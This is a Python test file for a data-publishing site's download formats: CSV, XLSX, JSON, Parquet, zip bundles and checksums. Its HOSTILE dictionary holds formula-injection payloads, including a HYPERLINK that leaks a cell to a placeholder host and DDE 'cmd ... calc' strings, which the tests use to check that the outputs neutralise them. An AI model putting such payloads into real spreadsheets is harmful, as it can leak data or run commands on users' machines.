"""The download area journalists use: CSV with BOM, XLSX, JSON, Parquet, zip bundles, checksums, the Downloads page."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
import zipfile

import duckdb
import openpyxl
import pytest
import yaml

from planpub import cache, csvfile, downloads
from planpub.background import Background
from planpub.config import load_yaml
from planpub.package import format_value
from planpub.page import esc
from planpub.schema import RESOURCES, contract, field_names

from .conftest import Given

HOSTILE = {
    "i001": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "i002": "+cmd|' /C calc'!A0",
    "i003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "i004": "\t=1+1",
    "i005": "－1+1",
}


def as_text(value) -> str:
    """A typed value (from DuckDB, openpyxl, JSON) as the package CSV writes it."""
    if isinstance(value, dt.datetime):
        value = value.date()
    if isinstance(value, dt.date):
        return value.isoformat()
    return format_value(value)


def record_rows(folder, resource) -> list[list[str]]:
    with (folder / f"{resource}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


def catalog(built):
    return load_yaml(built.datasets / "catalog.yaml")


def texts(built):
    return downloads.load_texts(built.datasets)


@pytest.mark.parametrize(
    ("cell", "neutralised"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+cmd", "'+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-3.5", "-3.5"),
        ("+8%", "+8%"),
        ("1e-3", "1e-3"),
        ("=", "="),
        ("-", "-"),
        ("≥90", "≥90"),
        ("城市6.2；农村8.2", "城市6.2；农村8.2"),
    ],
)
def test_formula_like_text_gets_a_leading_apostrophe_and_numbers_and_lone_signs_do_not(cell, neutralised):
    assert csvfile.neutralise(cell) == neutralised


def test_every_package_has_every_format_at_its_stable_path(built):
    root = built.site / "downloads"
    assert sorted(p.name for p in root.iterdir()) == sorted(p.name for p in built.packages.iterdir())
    for folder in root.iterdir():
        expected = {f"{r}.{ext}" for r in RESOURCES for ext in ("csv", "json", "parquet")}
        expected |= {f"{folder.name}.xlsx", f"{folder.name}.zip", "datapackage.json", "SHA256SUMS"}
        assert {p.name for p in folder.iterdir()} == expected


def test_the_sites_download_files_are_hard_links_of_their_cache_entries_not_copies(built):
    """Writing ~250 MB of downloads at 500 plans costs no copy: .cache/ → staging → site/ by links and a rename."""
    [entry] = [xlsx.parent for xlsx in (built.cache / "downloads").glob("*/all.xlsx")]
    files = list((built.site / "downloads" / "all").iterdir())
    assert len(files) > 20 and all(file.samefile(entry / file.name) for file in files)


def test_catalog_csv_with_bom_parquet_json_and_xlsx_hold_the_same_rows_as_the_package(built):
    folder, package = built.site / "downloads" / "all", built.packages / "all"
    book = openpyxl.load_workbook(folder / "all.xlsx")
    assert book.sheetnames == list(RESOURCES)
    db = duckdb.connect()
    for resource in RESOURCES:
        expected = [[csvfile.neutralise(c) for c in row] for row in record_rows(package, resource)]
        exact = record_rows(package, resource)
        raw = (folder / f"{resource}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbfplan_id,"), "CSV must be UTF-8 with a BOM"
        from_csv = db.execute("SELECT * FROM read_csv(?, all_varchar = true, header = true)", [str(folder / f"{resource}.csv")])
        assert [d[0] for d in from_csv.description] == field_names(resource)
        assert [[c or "" for c in row] for row in from_csv.fetchall()] == expected
        parquet = db.execute("SELECT * FROM read_parquet(?)", [str(folder / f"{resource}.parquet")]).fetchall()
        assert [[as_text(c) for c in row] for row in parquet] == exact
        records = json.loads((folder / f"{resource}.json").read_text(encoding="utf-8"))
        assert [[as_text(r[name]) for name in field_names(resource)] for r in records] == exact
        sheet = book[resource]
        cells = list(sheet.iter_rows(values_only=True))
        assert list(cells[0]) == field_names(resource)
        assert [[as_text(c) for c in row] for row in cells[1:]] == exact
    assert len(record_rows(package, "indicators")) > 20, "the comparison must cover real rows"


def test_xlsx_freezes_the_header_sets_widths_and_keeps_numbers_numeric(built):
    book = openpyxl.load_workbook(built.site / "downloads" / "all" / "all.xlsx")
    for resource in RESOURCES:
        sheet = book[resource]
        assert sheet.freeze_panes == "A2"
        assert all(sheet.column_dimensions[c].width > 0 for c in "ABC")
    indicators = book["indicators"]
    header = [c.value for c in indicators[1]]
    values = [row[header.index("target_value")] for row in indicators.iter_rows(min_row=2)]
    assert values and all(c.data_type == "n" for c in values)
    assert any(isinstance(c.value, float) and not c.value.is_integer() for c in values), "decimals must stay numbers"
    name_width = indicators.column_dimensions[openpyxl.utils.get_column_letter(header.index("name_zh") + 1)].width
    assert name_width > indicators.column_dimensions["C"].width, "the wide Chinese name column is wider than `seq`"


def test_zip_bundle_holds_data_datapackage_bilingual_readme_citation_and_licence(built, tmp_path):
    for package in ("all", "xinzhou-2021-public-services"):
        bundle = zipfile.ZipFile(built.site / "downloads" / package / f"{package}.zip")
        names = bundle.namelist()
        expected = [f"{r}.csv" for r in RESOURCES] + ["datapackage.json", "README.md", "CITATION.cff", "LICENSE.md"]
        assert sorted(names) == sorted(f"{package}/{n}" for n in expected)
        assert names == sorted(names), "entries are sorted"
        readme = bundle.read(f"{package}/README.md").decode("utf-8")
        assert "## 中文" in readme and "## English" in readme
        for resource in RESOURCES:
            for field in contract()[resource]["fields"]:
                assert f"`{field['name']}`" in readme and field["title_zh"] in readme and field["title"] in readme
        assert "CC BY 4.0" in readme and "如何引用" in readme and "How to cite" in readme and "OWASP" in readme
        cff = yaml.safe_load(bundle.read(f"{package}/CITATION.cff"))
        assert cff["cff-version"] == "1.2.0" and cff["type"] == "dataset" and cff["license"] == "CC-BY-4.0"
        assert cff["authors"] and cff["version"] == str(catalog(built)["version"])
        assert all(ref["type"] == "government-document" and ref["title"] for ref in cff["references"])
        bundle.extractall(tmp_path / package)
    from frictionless import Package

    report = Package(str(tmp_path / "all" / "all" / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "message"])
    readme = (tmp_path / "xinzhou-2021-public-services" / "xinzhou-2021-public-services" / "README.md").read_text()
    assert "忻州市“十四五”公共服务和社会保障事业规划" in readme and "忻州市人民政府" in readme


def test_every_checksum_in_sha256sums_verifies_with_sha256sum(built):
    for folder in (built.site / "downloads").iterdir():
        sums = (folder / "SHA256SUMS").read_text(encoding="utf-8")
        listed = [line.split("  ", 1)[1] for line in sums.splitlines()]
        assert sorted(listed) == sorted(p.name for p in folder.iterdir() if p.name != "SHA256SUMS")
        run = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True)
        assert run.returncode == 0, run.stdout + run.stderr
        assert run.stdout.count(": OK") == len(listed)


def package_digests(paths) -> dict:
    """Each package's descriptor with the digest of its files, as `package.write_packages` gives them."""
    return {folder / "datapackage.json": cache.tree_digest(folder) for folder in paths.packages.iterdir()}


def test_downloads_are_byte_identical_when_written_again_later_in_another_process(built, tmp_path):
    cache.use(cache.Cache(None))  # written anew, not copied from a build's cache
    with Background() as background:
        downloads.write_downloads(package_digests(built), tmp_path, catalog(built), texts(built), background.submit)()
    for folder in (built.site / "downloads").iterdir():
        for path in folder.iterdir():
            assert (tmp_path / folder.name / path.name).read_bytes() == path.read_bytes(), f"{folder.name}/{path.name} changed"


def test_downloads_are_asked_for_last_given_first_and_listed_in_package_order(built, tmp_path, monkeypatch):
    """The build writes what its worker has not started yet instead of waiting for it (planpub.background)."""
    monkeypatch.setattr(cache, "_active", cache.Cache(None))  # nothing written before: every package is given out
    given, asked = [], []

    def submit(task, folder, out, *args) -> Given:
        out.mkdir(parents=True, exist_ok=True)  # as the tasks do, for the catalog's listing
        return Given(f"{folder.name} {task.__name__}", {"id": folder.name}, given, asked)

    listings = downloads.write_downloads(package_digests(built), tmp_path, catalog(built), texts(built), submit)()
    # The catalog's spreadsheet apart, first: asked for after the catalog's other files, which the build writes itself
    # if the worker has not started them.
    assert given[:2] == ["all write_workbook", "all bundle"] and len(given) == 7
    assert asked == given[:1:-1] + ["all bundle", "all write_workbook"]
    assert [listing["id"] for listing in listings] == [name.split()[0] for name in given[1:]]


def test_zip_and_xlsx_carry_the_release_date_not_the_clock(built):
    released = dt.date.fromisoformat(str(catalog(built)["released"]))
    folder = built.site / "downloads" / "all"
    for name in ("all.zip", "all.xlsx"):
        for info in zipfile.ZipFile(folder / name).infolist():
            assert info.date_time == (released.year, released.month, released.day, 0, 0, 0), (name, info.filename)
    core = zipfile.ZipFile(folder / "all.xlsx").read("docProps/core.xml").decode("utf-8")
    stamps = re.findall(r"<dcterms:(?:created|modified)[^>]*>([^<]+)<", core)
    assert stamps == [f"{released.isoformat()}T00:00:00Z"] * 2


def test_hostile_cells_are_neutralised_in_csv_and_xlsx_exact_in_json_and_parquet(built, tmp_path):
    package = tmp_path / "package"
    shutil.copytree(built.packages / "xinzhou-2021-public-services", package)
    names = field_names("indicators")
    rows = [dict(zip(names, row, strict=True)) for row in record_rows(package, "indicators")]
    for row in rows:
        if row["indicator_id"] in HOSTILE:
            row["name_zh"] = HOSTILE[row["indicator_id"]]
    rows[0]["baseline_raw"], rows[0]["baseline_value"] = "-3.5", "-3.5"
    rows[5]["name_zh"] = "响铃\x07字符"
    with (package / "indicators.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, names, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    out = tmp_path / "hostile"
    downloads.Bundler(catalog(built), texts(built)).package(package, out)

    text = (out / "indicators.csv").read_text(encoding="utf-8-sig")
    written = {r["indicator_id"]: r for r in csv.DictReader(io.StringIO(text))}
    for indicator_id, hostile in HOSTILE.items():
        assert written[indicator_id]["name_zh"] == "'" + hostile
    assert written["i001"]["baseline_value"] == "-3.5" and written["i001"]["baseline_raw"] == "-3.5"
    assert written["i001"]["target_comparator"] == "="

    sheet = openpyxl.load_workbook(out / "hostile.xlsx")["indicators"]
    header = [c.value for c in sheet[1]]
    by_id = {row[header.index("indicator_id")].value: row for row in sheet.iter_rows(min_row=2)}
    for indicator_id, hostile in HOSTILE.items():
        cell = by_id[indicator_id][header.index("name_zh")]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (hostile, "s", True), "text, never a formula"
    number = by_id["i001"][header.index("baseline_value")]
    assert (number.value, number.data_type, number.quotePrefix) == (-3.5, "n", False)
    assert not by_id["i001"][header.index("baseline_raw")].quotePrefix
    assert by_id[rows[5]["indicator_id"]][header.index("name_zh")].value == "响铃\ufffd字符", "XLSX cannot hold U+0007"
    assert written[rows[5]["indicator_id"]]["name_zh"] == "响铃\x07字符", "CSV keeps it"

    exact = {r["indicator_id"]: r for r in json.loads((out / "indicators.json").read_text(encoding="utf-8"))}
    assert {i: exact[i]["name_zh"] for i in HOSTILE} == HOSTILE and exact["i001"]["baseline_value"] == -3.5
    parquet = duckdb.sql(f"SELECT indicator_id, name_zh FROM read_parquet('{out / 'indicators.parquet'}')").fetchall()
    assert {i: n for i, n in parquet if i in HOSTILE} == HOSTILE


def test_downloads_page_lists_every_file_with_size_checksum_and_the_data_dictionary(built):
    for page, prefix in ((built.site / "downloads.html", "downloads/"), (built.site / "en" / "downloads.html", "../downloads/")):
        html = page.read_text(encoding="utf-8")
        shown = re.sub(r"<[^>]+>", "", html)  # Chinese inside English text is in <span lang="zh">
        for folder in (built.site / "downloads").iterdir():
            for line in (folder / "SHA256SUMS").read_text(encoding="utf-8").splitlines():
                digest, name = line.split("  ", 1)
                assert f'href="{prefix}{folder.name}/{name}"' in html and digest in html
        for resource in RESOURCES:
            for field in contract()[resource]["fields"]:
                assert f"<code>{field['name']}</code>" in html
                assert esc(field["title_zh"]) in shown and esc(field["title"]) in shown and esc(field["description"]) in shown
        lang = "zh" if prefix == "downloads/" else "en"
        for kind, label in texts(built)["formats"].items():
            assert label[lang] in html, kind
        assert re.search(r"<td>[0-9.]+ (kB|Bytes)</td>", html), "sizes are shown"
        assert "https://creativecommons.org/licenses/by/4.0/" in html and "OWASP" in html
        assert "binding, expected" in html


def test_about_links_to_the_data_quality_page_with_the_validation_report(built):
    for lang_dir in ("", "en/"):
        about = (built.site / lang_dir / "about.html").read_text(encoding="utf-8")
        assert 'href="quality.html"' in about
        quality = (built.site / lang_dir / "quality.html").read_text(encoding="utf-8")
        for folder in built.packages.iterdir():
            assert folder.name in quality
        assert quality.count("✓") == len(list(built.packages.iterdir())) and "frictionless 5." in quality
